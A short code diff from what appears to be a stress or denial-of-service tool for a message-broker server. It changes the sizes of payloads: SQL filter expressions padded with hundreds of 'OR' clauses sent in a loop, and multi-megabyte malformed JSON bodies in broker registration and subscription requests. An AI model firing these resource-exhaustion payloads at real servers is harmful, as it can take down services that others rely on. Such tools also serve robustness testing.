@@ -222,7 +222,7 @@ async def _parse_sql(target: Target) -> None:
     async with target.connect() as wire:
         with trio.move_on_after(target.seconds):
             for number in itertools.count(1000):
-                expression = f"a={number}" + " OR a=1" * 1160
+                expression = f"a={number}" + " OR a=1" * 870
                 await wire.send(request(RequestCode.CHECK_CLIENT_CONFIG, body=(body % expression).encode()))
                 await wire.next()
 
@@ -236,7 +236,7 @@ async def _send_irregular_json(target: Target) -> None:
         request(RequestCode.UPDATE_AND_CREATE_SUBSCRIPTIONGROUP, body=irregular(3_500_000)),
         request(RequestCode.UPDATE_AND_CREATE_SUBSCRIPTIONGROUP, body=irregular(8_000)),
         request(RequestCode.REGISTER_BROKER, _REGISTRATION, irregular(3_500_000)),
-        request(RequestCode.REGISTER_BROKER, _REGISTRATION, irregular(16_000)),
+        request(RequestCode.REGISTER_BROKER, _REGISTRATION, irregular(12_000)),
     )
 
 
